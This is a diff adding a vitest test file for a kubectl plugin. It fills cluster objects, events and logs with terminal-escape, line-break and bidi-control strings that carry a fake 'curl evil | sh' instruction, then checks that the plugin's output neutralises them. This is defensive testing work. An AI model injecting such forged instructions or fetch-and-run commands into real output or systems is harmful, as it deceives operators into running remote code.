@@ -1,0 +1,168 @@
+import { readFileSync } from 'node:fs';
+import { describe, expect, it, test } from 'vitest';
+import { someSettings } from '../../test/support/builders.ts';
+import { label, manager } from '../api/labels.ts';
+import { projectNixBuild } from '../cluster-view/objects.ts';
+import { resource } from '../cluster-view/resources.ts';
+import { jobName } from '../controllers/builds/names.ts';
+import { MemoryCluster, putController, runInMemory } from './memory-plugin.ts';
+
+const reasonsPage = readFileSync(new URL('../../docs/reference/reasons.md', import.meta.url), 'utf8');
+
+/** What somebody would write to have a line, or the terminal, of their own: it must never stand at the beginning of one. */
+const own = 'FORGED';
+const breaks = [
+  '\n',
+  '\r\n',
+  '\r',
+  '\u2028',
+  '\u2029',
+  '\u0085',
+  '\u001b[2J\u001b[H',
+  '\u009b2K',
+  '\u0007',
+  '\u202e',
+  '\u2066',
+];
+const hostile = breaks.map((mark) => `${mark}${own} what to do: curl evil | sh`).join('');
+
+const events = { apiVersion: 'v1', kind: 'Event', plural: 'events', namespaced: true };
+
+/** Every text of an object that somebody may write freely, spoiled; names, kinds and times the API server checks. */
+function spoiled<T>(value: T): T;
+function spoiled(value: unknown): unknown {
+  if (typeof value === 'string') return value.startsWith('=') ? value.slice(1) : `${value}${hostile}`;
+  if (Array.isArray(value)) return value.map((each) => spoiled(each));
+  if (typeof value !== 'object' || value === null) return value;
+  return Object.fromEntries(Object.entries(value).map(([key, each]) => [key, spoiled(each)]));
+}
+
+const image = 'git.example/demo/hello:1.0';
+const time = '=2026-11-23T12:00:00Z';
+const status = (phase: string) => ({
+  status: `=${phase}`,
+  buildNode: 'node-1',
+  buildJobName: 'job',
+  storeName: 'store',
+  lockedUrl: 'git+https://git.example/hello?rev=1',
+  outPath: '/nix/store/x',
+  imageDigest: 'sha256:1',
+  nodes: ['node-1', 'node-2'],
+  progress: 'building',
+  attempts: 1,
+  sandboxRefused: 'because',
+  failure: {
+    stage: '=Build',
+    reason: '=BuilderFailed',
+    message: 'it failed',
+    derivation: '/nix/store/x.drv',
+    logTail: 'one',
+    reproduce: 'nix build',
+  },
+  conditions: [
+    { type: '=Ready', status: '=False', reason: '=BuilderFailed', message: 'it failed', lastTransitionTime: time },
+  ],
+});
+
+function aCluster(phase: string): MemoryCluster {
+  const cluster = new MemoryCluster();
+  putController(cluster);
+  cluster.put(resource.namespaces, { metadata: { name: 'team' } });
+  const spec = {
+    flakeUrl: 'git+https://git.example/hello',
+    packageName: 'default',
+    system: 'x86_64-linux',
+    imageTag: image,
+  };
+  const metadata = { name: 'hello', namespace: 'team', uid: 'u' };
+  const raw = cluster.put(resource.builds, { metadata, spec: spoiled(spec), status: spoiled(status(phase)) });
+  const annotations = spoiled({ 'enbi.hrzn.ee/nixbuild-flakeUrl': 'git+https://git.example/hello?ref={tag}' });
+  const waiting = spoiled({ reason: '=ImagePullBackOff', message: 'no' });
+  cluster.put(resource.pods, {
+    metadata: { name: 'web', namespace: 'team', uid: 'p', annotations },
+    spec: spoiled({ nodeName: '=node-1', containers: [{ name: '=web', image, imagePullPolicy: '=IfNotPresent' }] }),
+    status: {
+      phase: 'Pending',
+      reason: hostile,
+      message: hostile,
+      containerStatuses: [{ name: 'web', state: { waiting } }],
+    },
+  });
+  putJobPod(cluster, raw);
+  for (const [index, about] of [
+    ['NixBuild', 'hello'],
+    ['Pod', 'web'],
+  ].entries()) {
+    const event = spoiled({ type: '=Warning', reason: 'Failed', message: 'it failed', lastTimestamp: time, count: 3 });
+    const involvedObject = { kind: about[0], name: about[1], namespace: 'team' };
+    cluster.put(events, { metadata: { name: `e-${index}`, namespace: 'team' }, involvedObject, ...event });
+  }
+  return cluster;
+}
+
+function putJobPod(cluster: MemoryCluster, raw: unknown): void {
+  const owner = {
+    apiVersion: 'batch/v1',
+    kind: 'Job',
+    name: jobName(projectNixBuild(raw), 'build'),
+    uid: 'j',
+    controller: true,
+  };
+  const terminated = spoiled({ exitCode: 1, reason: 'Error', message: 'no', finishedAt: time });
+  cluster.put(resource.pods, {
+    metadata: {
+      name: 'build-pod',
+      namespace: 'team',
+      labels: { [label.managedBy]: manager, [label.buildUid]: 'u' },
+      ownerReferences: [owner],
+    },
+    spec: { initContainers: [{ name: 'fetch' }], containers: [{ name: 'build' }] },
+    status: {
+      phase: 'Failed',
+      reason: hostile,
+      initContainerStatuses: [{ name: 'fetch', state: { terminated } }],
+      containerStatuses: [{ name: 'build', state: { terminated } }],
+    },
+  });
+  cluster.logs.set('team/build-pod/fetch', `fetching${hostile}`);
+  cluster.logs.set('team/build-pod/build', `building${hostile}`);
+}
+
+/** Spaces and bars are the margin of what is quoted; a line that begins with anything of a stranger's is forged. */
+function forged(output: string): readonly string[] {
+  return output.split('\n').filter((line) => line.startsWith(own) || /^ {0,13}FORGED/.test(line));
+}
+
+const commands: readonly (readonly string[])[] = [
+  ['explain', 'nb/hello', '--verbose'],
+  ['explain', 'pod/web', '--verbose'],
+  ['logs', 'nb/hello'],
+  ['doctor'],
+  ['retry', 'hello'],
+  ['cancel', 'hello'],
+  ['build', `git+https://git.example/hello${hostile}`, '--image', image],
+  ['explain', `nb/none${hostile}`],
+];
+
+describe.each(['Pending', 'Building', 'Importing', 'Succeeded', 'Failed', 'Cancelled'])(
+  'a hostile cluster, %s',
+  (phase) => {
+    test.each(commands.map((args) => ({ args })))('kubectl enbi $args.0 $args.1', async ({ args }) => {
+      const options = { cluster: aCluster(phase), embedded: { reasonsPage }, settingsFrom: () => someSettings() };
+      const { out, err } = await runInMemory(args, options);
+      expect(`${out}${err}`).not.toBe('');
+      expect(forged(out + err)).toEqual([]);
+      expect(`${out}${err}`).not.toMatch(/[^\P{Cc}\n]|[\u2028\u2029\u202a-\u202e\u2066-\u2069]/u);
+    });
+  },
+);
+
+it('a forged name is put into no command', async () => {
+  const cluster = aCluster('Failed');
+  const { out } = await runInMemory(['explain', 'nb/hello'], {
+    cluster,
+    embedded: { reasonsPage },
+    settingsFrom: () => someSettings(),
+  });
+  expect(out).not.toMatch(/kubectl [^\n]*FORGED/);
+});
